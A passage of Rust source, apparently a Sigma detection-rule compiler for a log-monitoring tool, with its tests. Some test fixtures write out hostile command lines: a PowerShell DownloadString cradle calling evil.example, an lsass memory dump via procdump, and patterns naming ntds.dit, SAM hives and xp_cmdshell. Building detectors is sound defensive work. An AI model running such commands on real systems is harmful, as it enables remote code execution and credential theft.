        return None;
    }
    // A `*` at an end frees that end: what remains to anchor decides the comparison.
    let start = matches!(cmp, Cmp::Exact | Cmp::StartsWith) && !lead;
    let end = matches!(cmp, Cmp::Exact | Cmp::EndsWith) && !trail;
    let cmp = match (start, end) {
        (true, true) => Cmp::Exact,
        (true, false) => Cmp::StartsWith,
        (false, true) => Cmp::EndsWith,
        (false, false) => Cmp::Contains,
    };
    let needle = if cased { literal.clone() } else { literal.to_ascii_lowercase() };
    Some(Plain { needle, cmp, cased })
}

/// The plain form of a `|re` pattern that is an ASCII literal (no metacharacter): a
/// case-sensitive `contains`, or case-insensitive under `i` (the `m` and `s` flags change
/// nothing for a literal).
fn plain_regex(pattern: &str, (insensitive, _, _): (bool, bool, bool)) -> Option<Plain> {
    let literal = !pattern.is_empty()
        && pattern.bytes().all(|b| {
            b.is_ascii_alphanumeric()
                || matches!(
                    b,
                    b'_' | b'=' | b':' | b'/' | b',' | b'@' | b'%' | b'!' | b'\'' | b'"' | b';' | b'<' | b'>' | b'`'
                )
        });
    literal.then(|| Plain {
        needle: if insensitive { pattern.to_ascii_lowercase() } else { pattern.to_owned() },
        cmp: Cmp::Contains,
        cased: !insensitive,
    })
}

enum Token {
    Lit(String),
    Star,
    One,
}

/// Splits a Sigma string into literals and wildcards: `\*`, `\?` and `\\` are literal; a `\`
/// before anything else is itself literal.
fn tokenize(s: &str) -> Vec<Token> {
    let mut out = Vec::new();
    let mut lit = String::new();
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.peek() {
                Some(&n @ ('*' | '?' | '\\')) => {
                    lit.push(n);
                    chars.next();
                }
                _ => lit.push('\\'),
            },
            '*' | '?' => {
                if !lit.is_empty() {
                    out.push(Token::Lit(std::mem::take(&mut lit)));
                }
                out.push(if c == '*' { Token::Star } else { Token::One });
            }
            c => lit.push(c),
        }
    }
    if !lit.is_empty() {
        out.push(Token::Lit(lit));
    }
    out
}

fn text_matcher(text: &str, cmp: Cmp, cased: bool) -> Result<ValueMatcher, CompileError> {
    let tokens = tokenize(text);
    if tokens.iter().all(|t| matches!(t, Token::Lit(_))) {
        let mut needle: String =
            tokens.into_iter().map(|t| if let Token::Lit(s) = t { s } else { String::new() }).collect();
        if !cased {
            needle = needle.to_lowercase();
        }
        return Ok(ValueMatcher::Text { needle, cmp, cased });
    }
    let mut pattern = String::from(if cased { "(?s)" } else { "(?si)" });
    if matches!(cmp, Cmp::Exact | Cmp::StartsWith) {
        pattern.push('^');
    }
    for t in &tokens {
        match t {
            Token::Lit(s) => pattern.push_str(&regex::escape(s)),
            Token::Star => pattern.push_str(".*"),
            Token::One => pattern.push('.'),
        }
    }
    if matches!(cmp, Cmp::Exact | Cmp::EndsWith) {
        pattern.push('$');
    }
    // The prefilter looks for the longest literal part, case-insensitively: only ASCII, whose
    // case folding the prefilter reproduces exactly.
    let literal = tokens
        .iter()
        .filter_map(|t| if let Token::Lit(s) = t { Some(s) } else { None })
        .max_by_key(|s| s.len())
        .filter(|s| !cased && s.is_ascii() && !s.is_empty())
        .map(|s| vec![s.to_ascii_lowercase()])
        // Otherwise (a cased pattern, non-ASCII parts: `*️⃣`) what the pattern requires.
        .or_else(|| required::required_literals(&pattern, (false, false, false)));
    let plain = plain_wildcards(&tokens, cmp, cased);
    Regex::new(&pattern)
        .map(|re| ValueMatcher::Regex(re, literal, plain))
        .map_err(|e| err("bad_value", format!("wildcard pattern {text:?}: {e}")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use vigil_parsers::{Fields, Format, LogSource};

    fn event(fields: &[(&str, Value)]) -> Event {
        let mut f = Fields::new();
        for (k, v) in fields {
            f.insert((*k).to_owned().into(), v.clone());
        }
        Event {
            time: chrono::DateTime::default(),
            received: chrono::DateTime::default(),
            host: None,
            structured_data: Vec::new(),
            fields: f,
            logsource: LogSource::default(),
            format: Format::Json,
            raw: String::new(),
            origin: None,
        }
    }

    fn det(yaml: &str) -> Detection {
        let map: serde_yaml_ng::Mapping = serde_yaml_ng::from_str(yaml).unwrap_or_else(|e| panic!("{e}"));
        compile(&map, &Ctx::new(&Placeholders::new())).unwrap_or_else(|e| panic!("{}: {}", e.code, e.message))
    }

    fn s(v: &str) -> Value {
        Value::from(v)
    }

    /// The prefilter's clauses: every AND part required, an OR distributed, a `not` nothing.
    #[test]
    fn gates_are_required_numbers() {
        let gate = |yaml: &str| det(yaml).gate().map(|g| (g.field, g.values));
        assert_eq!(gate("a:\n  EventID: 27\ncondition: a"), Some(("EventID".into(), vec![27.0])));
        assert_eq!(
            gate("a:\n  EventID: [4624, 4625]\n  x: 'y'\ncondition: a"),
            Some(("EventID".into(), vec![4624.0, 4625.0]))
        );
        // Every alternative has one on the same field: their union.
        assert_eq!(gate("a:\n  - EventID: 1\n  - EventID: 2\ncondition: a"), Some(("EventID".into(), vec![1.0, 2.0])));
        assert_eq!(gate("a:\n  EventID: 1\nb:\n  EventID: 2\ncondition: a or b").map(|g| g.1), Some(vec![1.0, 2.0]));
        assert_eq!(gate("a:\n  EventID: 1\nb:\n  x: 'y'\ncondition: a and not b").map(|g| g.1), Some(vec![1.0]));
        // Nothing to require: an alternative without one, another field, a `not`, a string.
        assert_eq!(gate("a:\n  - EventID: 1\n  - x: 'y'\ncondition: a"), None);
        assert_eq!(gate("a:\n  EventID: 1\nb:\n  Level: 2\ncondition: a or b"), None);
        assert_eq!(gate("a:\n  EventID: 1\ncondition: not a"), None);
        assert_eq!(gate("a:\n  EventID: '1'\ncondition: a"), None);
        assert_eq!(gate("a:\n  EventID: [1, 'x']\ncondition: a"), None);
        // What passes: the number as a number or text, a list; not another number, not absent.
        let admits = |v: Option<&Value>| Gate::admits(&[27.0], Seen::of(v));
        assert!(admits(Some(&Value::Int(27))));
        assert!(admits(Some(&Value::from(" 27"))));
        assert!(admits(Some(&Value::Float(27.0))));
        assert!(admits(Some(&Value::List(vec![Value::Int(1)]))));
        assert!(!admits(Some(&Value::Int(1))));
        assert!(!admits(Some(&Value::from("x"))));
        assert!(!admits(None));
    }

    #[test]
    fn requirements_are_clauses() {
        let texts = |d: &Detection| -> Vec<Vec<String>> {
            d.requirements().iter().map(|c| c.iter().map(|l| l.text.clone()).collect()).collect()
        };
        let d =
            det("sel:\n  Image|endswith: '\\whoami.exe'\n  CommandLine|contains: ['/all', '/priv']\ncondition: sel");
        assert_eq!(texts(&d), vec![vec!["\\whoami.exe".to_owned()], vec!["/all".to_owned(), "/priv".to_owned()]]);
        let d = det("a:\n  f: 'xxxx'\n  g: 'yyyyy'\nb:\n  h: 'zzz'\ncondition: a or b");
        assert_eq!(
            texts(&d),
            vec![vec!["xxxx".to_owned(), "zzz".to_owned()], vec!["yyyyy".to_owned(), "zzz".to_owned()]]
        );
        let d = det("a:\n  f: 'xxxx'\nb:\n  h: 'zzz'\ncondition: a and not b");
        assert_eq!(texts(&d), vec![vec!["xxxx".to_owned()]]);
        assert!(det("a:\n  f: 'xxxx'\ncondition: not a").requirements().is_empty());
        assert!(det("a:\n  f: 'xxxx'\nb:\n  n: 5\ncondition: a or b").requirements().is_empty());
    }

    #[test]
    fn case_insensitive_unless_cased_and_wildcards() {
        let d = det("sel:\n  Image|endswith: '\\CMD.exe'\ncondition: sel");
        assert!(d.matches(&event(&[("Image", s("C:\\Windows\\cmd.EXE"))])));
        let d = det("sel:\n  Image|cased: 'CMD.exe'\ncondition: sel");
        assert!(!d.matches(&event(&[("Image", s("cmd.exe"))])));
        let d = det("sel:\n  CommandLine: '*whoami ?all'\ncondition: sel");
        assert!(d.matches(&event(&[("CommandLine", s("cmd /c WHOAMI /all"))])));
        assert!(!d.matches(&event(&[("CommandLine", s("cmd /c whoami /all x"))])));
    }

    #[test]
    fn underscore_and_percent_are_literal_and_backslash_escapes() {
        let d = det("sel:\n  f: 'a_b%c'\ncondition: sel");
        assert!(d.matches(&event(&[("f", s("A_B%C"))])));
        assert!(!d.matches(&event(&[("f", s("axbxc"))])));
        let d = det("sel:\n  f: 'what\\?'\ncondition: sel");
        assert!(d.matches(&event(&[("f", s("what?"))])));
        assert!(!d.matches(&event(&[("f", s("whatx"))])));
    }

    #[test]
    fn absent_field_is_false_and_not_filter_is_true() {
        let d = det("sel:\n  a: x\nfilter:\n  b: y\ncondition: sel and not filter");
        assert!(d.matches(&event(&[("a", s("x"))])));
        assert!(!d.matches(&event(&[("a", s("x")), ("b", s("Y"))])));
        let d = det("sel:\n  b: null\ncondition: sel");
        assert!(d.matches(&event(&[("a", s("x"))])));
    }

    #[test]
    fn numbers_compare_as_values() {
        let d = det("sel:\n  EventID: 4688\ncondition: sel");
        assert!(d.matches(&event(&[("EventID", Value::Int(4688))])));
        assert!(d.matches(&event(&[("EventID", s("4688"))])));
        assert!(!d.matches(&event(&[("EventID", Value::Int(46880))])));
    }

    #[test]
    fn contains_all_and_re() {
        let d = det("sel:\n  c|contains|all: [foo, bar]\ncondition: sel");
        assert!(d.matches(&event(&[("c", s("xx BAR yy foo"))])));
        assert!(!d.matches(&event(&[("c", s("xx foo"))])));
        let d = det("sel:\n  c|re: 'o+b'\ncondition: sel");
        assert!(d.matches(&event(&[("c", s("xfooby"))])));
        assert!(!d.matches(&event(&[("c", s("xFOOBy"))])));
    }

    #[test]
    fn keywords_search_the_message() {
        let d = det("keywords:\n  - 'Invalid user'\n  - 'no such user'\ncondition: keywords");
        assert!(d.matches(&event(&[("message", s("invalid USER bob from 1.2.3.4"))])));
        assert!(!d.matches(&event(&[("message", s("Accepted password"))])));
    }

    #[test]
    fn one_of_and_all_of() {
        let d = det("sel_a:\n  a: 1\nsel_b:\n  b: 2\ncondition: 1 of sel_*");
        assert!(d.matches(&event(&[("b", Value::Int(2))])));
        let d = det("sel_a:\n  a: 1\nsel_b:\n  b: 2\ncondition: all of them");
        assert!(!d.matches(&event(&[("b", Value::Int(2))])));
        assert!(d.matches(&event(&[("a", Value::Int(1)), ("b", Value::Int(2))])));
    }

    #[test]
    fn bad_detections_are_errors() {
        for (yaml, code) in [
            ("sel:\n  a: 1\ncondition: nope", "unknown_identifier"),
            ("sel:\n  a|wide: x\ncondition: sel", "bad_modifier"),
            ("sel:\n  a|cidr: 10.0.0.0/33\ncondition: sel", "bad_value"),
            ("sel:\n  a|bogus: x\ncondition: sel", "unknown_modifier"),
            ("sel:\n  a|re: '('\ncondition: sel", "bad_regex"),
            ("sel:\n  a: 1", "missing_field"),
        ] {
            let map: serde_yaml_ng::Mapping = serde_yaml_ng::from_str(yaml).unwrap_or_else(|e| panic!("{e}"));
            assert_eq!(
                compile(&map, &Ctx::new(&Placeholders::new())).map(|_| ()).map_err(|e| e.code),
                Err(code),
                "{yaml}"
            );
        }
    }

    fn b64(bytes: &[u8]) -> String {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    fn utf16le(s: &str) -> Vec<u8> {
        s.encode_utf16().flat_map(u16::to_le_bytes).collect()
    }

    #[test]
    fn base64_modifiers() {
        let d = det("sel:\n  CommandLine|base64: 'whoami'\ncondition: sel");
        assert!(d.matches(&event(&[("CommandLine", s("d2hvYW1p"))])));
        assert!(!d.matches(&event(&[("CommandLine", s("x d2hvYW1p"))])));

        // base64offset finds the value wherever it sits in a longer encoded string.
        let d = det("sel:\n  CommandLine|base64offset|contains: 'http://'\ncondition: sel");
        for prefix in ["", "a", "ab", "abc", "IEX (New-Object Net.WebClient).DownloadString('"] {
            let encoded = b64(format!("{prefix}http://evil.example/x')").as_bytes());
            assert!(d.matches(&event(&[("CommandLine", s(&format!("powershell -enc {encoded}")))])), "{prefix:?}");
        }
        assert!(!d.matches(&event(&[("CommandLine", s(&b64(b"ftp://evil.example/x")))])));

        // UTF-16LE then base64, as PowerShell's -EncodedCommand carries it.
        let d = det("sel:\n  CommandLine|wide|base64offset|contains: 'DownloadString'\ncondition: sel");
        for prefix in ["", "I", "IE", "IEX (New-Object Net.WebClient)."] {
            let encoded = b64(&utf16le(&format!("{prefix}DownloadString('http://x')")));
            assert!(d.matches(&event(&[("CommandLine", s(&format!("powershell -e {encoded}")))])), "{prefix:?}");
        }
        assert!(!d.matches(&event(&[("CommandLine", s(&b64(&utf16le("Invoke-WebRequest"))))])));

        let d = det("sel:\n  a|utf16be|base64: 'cmd'\ncondition: sel");
        assert!(d.matches(&event(&[("a", s(&b64(&[0, b'c', 0, b'm', 0, b'd'])))])));
        let d = det("sel:\n  a|utf16|base64: 'cmd'\ncondition: sel");
        assert!(d.matches(&event(&[("a", s(&b64(&[0xFF, 0xFE, b'c', 0, b'm', 0, b'd', 0])))])));
    }

    #[test]
    fn cidr_fieldref_neq_and_time_parts() {
        let d = det("sel:\n  DestinationIp|cidr:\n    - 10.0.0.0/8\n    - '2001:db8::/32'\ncondition: sel");
        assert!(d.matches(&event(&[("DestinationIp", s("10.20.30.40"))])));
        assert!(d.matches(&event(&[("DestinationIp", s("2001:db8::1"))])));
        assert!(!d.matches(&event(&[("DestinationIp", s("11.0.0.1"))])));
        assert!(!d.matches(&event(&[("DestinationIp", s("not an ip"))])));
        assert!(!d.matches(&event(&[])));

        let d = det("sel:\n  TargetUserName|fieldref: SubjectUserName\ncondition: sel");
        assert!(d.matches(&event(&[("TargetUserName", s("Alice")), ("SubjectUserName", s("alice"))])));
        assert!(!d.matches(&event(&[("TargetUserName", s("alice")), ("SubjectUserName", s("bob"))])));
        assert!(!d.matches(&event(&[("TargetUserName", s("alice"))])));
        let d = det("sel:\n  Image|fieldref|endswith: OriginalFileName\ncondition: sel");
        assert!(d.matches(&event(&[("Image", s("C:\\x\\cmd.exe")), ("OriginalFileName", s("Cmd.Exe"))])));
        let d = det("sel:\n  a|fieldref|neq: b\ncondition: sel");
        assert!(d.matches(&event(&[("a", s("1")), ("b", s("2"))])));
        assert!(!d.matches(&event(&[("a", s("1")), ("b", s("1"))])));

        // neq: present and different from every value; absent is false.
        let d = det("sel:\n  User|neq:\n    - SYSTEM\n    - LOCAL SERVICE\ncondition: sel");
        assert!(d.matches(&event(&[("User", s("alice"))])));
        assert!(!d.matches(&event(&[("User", s("system"))])));
        assert!(!d.matches(&event(&[("User", s("Local Service"))])));
        assert!(!d.matches(&event(&[])));
        let d = det("sel:\n  EventID|neq: 4624\ncondition: sel");
        assert!(d.matches(&event(&[("EventID", Value::Int(4625))])));
        assert!(!d.matches(&event(&[("EventID", Value::Int(4624))])));

        let d = det("sel:\n  UtcTime|hour|gte: 22\ncondition: sel");
        assert!(d.matches(&event(&[("UtcTime", s("2026-11-23 23:10:00.123"))])));
        assert!(!d.matches(&event(&[("UtcTime", s("2026-11-23 08:10:00.123"))])));
        let d = det("sel:\n  t|month: 11\n  t|year: 2026\n  t|week: 48\ncondition: sel");
        assert!(d.matches(&event(&[("t", s("2026-11-23T10:00:00Z"))])));
        assert!(!d.matches(&event(&[("t", s("not a date"))])));
    }

    #[test]
    fn windash_variants_of_one_value_are_any_even_with_all() {
        let d = det("sel:\n  CommandLine|windash|contains|all:\n    - '-enc'\n    - '-nop'\ncondition: sel");
        assert!(d.matches(&event(&[("CommandLine", s("powershell /nop /enc AAAA"))])));
        assert!(d.matches(&event(&[("CommandLine", s("powershell \u{2013}nop -enc AAAA"))])));
        assert!(!d.matches(&event(&[("CommandLine", s("powershell -nop"))])));
    }

    fn list(items: &[&str]) -> Value {
        Value::List(items.iter().map(|i| s(i)).collect())
    }

    #[test]
    fn a_list_valued_field_matches_when_any_element_does() {
        // Windows' unnamed `<Data>` elements: `Data|contains` looks at each one.
        let data = list(&["Available", "None", "NewEngineState=Available\n\tHostVersion=5.1\n\tEngineVersion=2.0"]);
        let d = det(
            "sel:\n  Data|contains: 'EngineVersion=2.'\nfilter:\n  Data|contains: 'HostVersion=2.'\ncondition: sel and not filter",
        );
        assert!(d.matches(&event(&[("Data", data.clone())])));
        assert!(d.matches_compiled(&event(&[("Data", data.clone())])));
        let old_host = list(&["Available", "HostVersion=2.0", "EngineVersion=2.0"]);
        assert!(!d.matches(&event(&[("Data", old_host.clone())])), "`not` over a list: no element may match");
        assert!(!d.matches_compiled(&event(&[("Data", old_host)])));

        // Exact values, numbers written as text, and `|all` over different elements.
        let d = det("sel:\n  Data: 'None'\ncondition: sel");
        assert!(d.matches(&event(&[("Data", data.clone())])));
        let d = det("sel:\n  Data|contains|all:\n    - 'Available'\n    - 'HostVersion=5'\ncondition: sel");
        assert!(d.matches(&event(&[("Data", data.clone())])));
        assert!(d.matches_compiled(&event(&[("Data", data.clone())])));
        let d = det("sel:\n  Data|contains|all:\n    - 'Available'\n    - 'nowhere'\ncondition: sel");
        assert!(!d.matches(&event(&[("Data", data.clone())])));
        let d = det("sel:\n  Data: 15457\ncondition: sel");
        assert!(d.matches(&event(&[("Data", Value::List(vec![s("x"), Value::Int(15457)]))])));
        // Many values: the compiled matcher's automaton and hash sets look at each element too.
        let d = det("sel:\n  Data|contains:\n    - 'ntds.dit'\n    - 'xp_cmdshell'\n    - 'sam.hive'\ncondition: sel");
        let hit = list(&["C:\\Windows\\Temp\\x", "c:\\shadow\\NTDS.dit"]);
        assert!(d.matches(&event(&[("Data", hit.clone())])));
        assert!(d.matches_compiled(&event(&[("Data", hit)])));
        let d = det("sel:\n  Data:\n    - a\n    - b\n    - c\n    - ntds.dit\ncondition: sel");
        assert!(d.matches_compiled(&event(&[("Data", list(&["x", "NTDS.DIT"]))])));
        assert!(!d.matches_compiled(&event(&[("Data", list(&["x", "NTDS.DIT.bak"]))])));

        // `neq`: no element matches; `exists`; an empty list matches no value.
        let d = det("sel:\n  Data|neq: 'None'\ncondition: sel");
        assert!(!d.matches(&event(&[("Data", data.clone())])));
        assert!(d.matches(&event(&[("Data", list(&["a", "b"]))])));
        let d = det("sel:\n  Data|exists: true\ncondition: sel");
        assert!(d.matches(&event(&[("Data", list(&[]))])));
        let d = det("sel:\n  Data|contains: ''\ncondition: sel");
        assert!(!d.matches(&event(&[("Data", list(&[]))])));

        // Keywords over an event without a message see each element.
        let d = det("keywords:\n  - 'HostVersion=5.1'\ncondition: keywords");
        assert!(d.matches(&event(&[("Data", data)])));
    }

    #[test]
    fn windash_slash_in_the_rule_matches_a_dash_in_the_event() {
        // SigmaHQ writes `' /accepteula'` under `windash`; `procdump -accepteula` was missed.
        let d = det("sel:\n  CommandLine|windash|contains: ' /accepteula'\ncondition: sel");
        for dash in WINDASHES {
            let line = format!("procdump.exe {dash}accepteula -ma lsass.exe out.dmp");
            assert!(d.matches(&event(&[("CommandLine", s(&line))])), "{line}");
        }
        let d = det("sel:\n  CommandLine|windash|startswith: '/format:'\ncondition: sel");
        assert!(d.matches(&event(&[("CommandLine", s("-format:list"))])));
        assert!(d.matches(&event(&[("CommandLine", s("\u{2015}FORMAT:list"))])));
    }

    #[test]
    fn windash_varies_only_a_dash_that_starts_an_option() {
        let variants = |t: &str| windash_variants(t).unwrap_or_default();
        assert_eq!(variants(" -s -i cmd").len(), 25);
        assert_eq!(variants("\u{2013}enc").len(), 5);
        // Inside a word or a path, alone, or before a space: as written.
        for t in ["x-y", "dir/sub/x", "-", " - ", "a/", ""] {
            assert_eq!(variants(t), [t], "{t:?}");
        }
        let d = det("sel:\n  CommandLine|windash|contains: 'x-y'\ncondition: sel");
        assert!(d.matches(&event(&[("CommandLine", s("run X-Y now"))])));
        assert!(!d.matches(&event(&[("CommandLine", s("run x/y now"))])));
        // Too many to vary: refused with a reason, not 5^n matchers.
        let map: serde_yaml_ng::Mapping =
            serde_yaml_ng::from_str("sel:\n  c|windash: ' -a -b -c -d -e -f'\ncondition: sel").unwrap_or_default();
        let e = compile(&map, &Ctx::new(&Placeholders::new())).err().map(|e| e.code);
        assert_eq!(e, Some("bad_value"));
    }

    #[test]
    fn expand_uses_placeholder_values() {
        let mut values = Placeholders::new();
        values.insert("Admins".into(), vec!["alice".into(), "bob".into()]);
        let map: serde_yaml_ng::Mapping =
            serde_yaml_ng::from_str("sel:\n  User|expand: '%Admins%'\ncondition: sel").unwrap_or_default();
        let ctx = Ctx::new(&values);
        let d = compile(&map, &ctx).unwrap_or_else(|e| panic!("{}", e.message));
        assert!(d.matches(&event(&[("User", s("BOB"))])));
        assert!(!d.matches(&event(&[("User", s("mallory"))])));
        assert!(ctx.missing.borrow().is_empty());

        // Without values the item matches nothing, and the placeholder is noted.
        let map: serde_yaml_ng::Mapping =
            serde_yaml_ng::from_str("sel:\n  a: 1\nfilter:\n  User|expand: '%Nobody%'\ncondition: sel and not filter")
                .unwrap_or_default();
        let ctx = Ctx::new(&values);
        let d = compile(&map, &ctx).unwrap_or_else(|e| panic!("{}", e.message));
        assert!(d.matches(&event(&[("a", Value::Int(1)), ("User", s("anyone"))])));
        assert_eq!(ctx.missing.borrow().iter().cloned().collect::<Vec<_>>(), ["Nobody"]);
    }
}
